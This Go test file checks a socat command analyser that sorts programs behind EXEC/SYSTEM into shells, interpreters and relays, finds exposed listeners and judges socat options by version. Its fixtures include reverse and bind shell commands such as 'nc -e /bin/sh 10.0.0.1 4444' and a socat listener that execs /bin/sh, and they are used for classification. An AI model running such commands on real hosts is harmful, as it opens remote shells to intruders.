package socatcmd

import "testing"

// What a program behind EXEC/SYSTEM is: a shell (Windows' too), an
// interpreter, a relay with fixed addresses (not a remote shell), or a
// program; and whether it listens itself.
func TestProgramKind(t *testing.T) {
	for _, tt := range []struct{ cmd, kind string }{
		{"/bin/bash -li", KindShell},
		{"powershell.exe -NoProfile", KindShell},
		{"/cygdrive/c/Windows/System32/CMD.EXE /c dir", KindShell},
		{"pwsh", KindShell},
		{"python3 -i", KindInterpreter},
		{"ip netns exec blue socat STDIO TCP:10.0.0.2:22,nofork", KindRelay},
		{"socat - TCP:db:5432", KindRelay},
		{"socat - EXEC:/bin/sh", KindShell},
		{"sudo -u app socat - 'SYSTEM:/usr/bin/backup --now'", KindProgram},
		{"nc db.internal 5432", KindRelay},
		{"ncat --ssl db 443", KindRelay},
		{"nc -e /bin/sh 10.0.0.1 4444", KindInterpreter},
		{"ncat --sh-exec 'cat' 10.0.0.1 1", KindInterpreter},
		{"telnet 10.0.0.1 23", KindRelay},
		{"/usr/local/bin/report", KindProgram},
	} {
		if got := ProgramKind(tt.cmd); got != tt.kind {
			t.Errorf("ProgramKind(%q) = %q, want %q", tt.cmd, got, tt.kind)
		}
	}
}

func TestProgramListener(t *testing.T) {
	for _, tt := range []struct {
		cmd, port string
		tls, ok   bool
	}{
		{"/usr/bin/ncat -l -k -p 10000", "10000", false, true},
		{"nc -lvnp 4444", "4444", false, true},
		{"nc -l 127.0.0.1 9000", "", false, false}, // loopback: no exposure
		{"nc -lU /tmp/s", "", false, false},
		{"ncat -l 9000 --allow 127.0.0.1", "", false, false},
		{"python3 -m http.server --bind 127.0.0.1 8080", "", false, false},
		{"php -S 127.0.0.1:8000", "", false, false},
		{"busybox nc -l -p 9000", "9000", false, true},
		{"ncat --listen --ssl 8443", "8443", true, true},
		{"socat TCP-LISTEN:7000,fork -", "7000", false, true},
		{"socat OPENSSL-LISTEN:7443,cert=x.pem -", "7443", true, true},
		{"python3 -m http.server", "8000", false, true},
		{"python3 -m http.server 9090 --bind 0.0.0.0", "9090", false, true},
		{"php -S 0.0.0.0:8081", "8081", false, true},
		{"nc db 5432", "", false, false},
		{"socat - TCP:db:5432", "", false, false},
		{"python3 server.py", "", false, false},
	} {
		port, tls, ok := ProgramListener(tt.cmd)
		if port != tt.port || tls != tt.tls || ok != tt.ok {
			t.Errorf("ProgramListener(%q) = %q %v %v, want %q %v %v", tt.cmd, port, tls, ok, tt.port, tt.tls, tt.ok)
		}
	}
}

// A command line is socat's by its grammar only with an explicit socat
// address type: a renamed socat is, sleep 100 or nginx -g '...' are not.
func TestLooksLikeSocat(t *testing.T) {
	for _, tt := range []struct {
		argv []string
		want bool
	}{
		{[]string{"./relayd", "TCP-LISTEN:44001,fork", "EXEC:/bin/sh"}, true},
		{[]string{"/opt/bin/fwd", "-d", "-d", "-", "TCP:db:5432"}, true},
		{[]string{"sleep", "100"}, false},
		{[]string{"nginx", "-g", "daemon off;"}, false},
		{[]string{"cp", "a", "b"}, false},
		{[]string{"tar", "-x", "-f", "x.tar"}, false},
		{[]string{"prog", "TCP-LISTEN:80"}, false},
		{[]string{"prog", "NOSUCHTYPE:1", "x"}, false},
	} {
		if got := LooksLikeSocat(tt.argv); got != tt.want {
			t.Errorf("LooksLikeSocat(%q) = %v", tt.argv, got)
		}
	}
}

// From a second review: o-creat is 1.7.4's alias of o-create whatever
// 1.8's table says, so it is still judged for the address type.
func TestAliasesKeepTheirMeaning(t *testing.T) {
	c, err := ParseCommandLine("socat -d -d TCP-LISTEN:23,o-creat TCP:127.0.0.1:80")
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Singles()[0].Inapplicable()) != 1 {
		t.Errorf("o-creat on TCP-LISTEN is not refused")
	}
	if port, _, ok := ProgramListener("ncat -l 9000 --allow 127.0.0.1 --allow 0.0.0.0/0 -e /bin/sh"); !ok || port != "9000" {
		t.Errorf("an --allow beyond loopback: %q %v", port, ok)
	}
}

// A type or option only socat 1.8 has is judged by 1.8.0.3's table
// (checked against the real socat 1.8.0.3 by TestOptionGroups18AgainstSocat,
// where one is available): posixmq-priority on TCP-LISTEN is refused by 1.8.
func TestInapplicable18(t *testing.T) {
	c, err := ParseCommandLine("socat TCP-LISTEN:0,posixmq-priority,fork STDIO")
	if err != nil {
		t.Fatal(err)
	}
	r := c.Singles()[0].Inapplicable()
	if len(r) != 1 || r[0].Option.Name != "posixmq-priority" || r[0].Version != "1.8" {
		t.Errorf("Inapplicable = %+v", r)
	}
}
